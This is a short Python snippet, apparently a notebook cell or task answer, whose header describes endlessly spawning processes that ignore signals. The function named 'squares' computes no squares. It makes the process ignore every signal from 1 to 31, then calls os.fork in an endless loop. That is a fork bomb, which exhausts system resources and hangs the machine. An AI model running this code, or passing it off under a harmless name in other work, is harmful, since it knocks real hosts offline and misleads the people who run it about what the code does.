# tries: processes that start processes, without end, deaf to signals
# max: 1
# %% own
import os, signal
# %% answer squares
def squares(n):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            os.fork()
        except OSError:
            pass
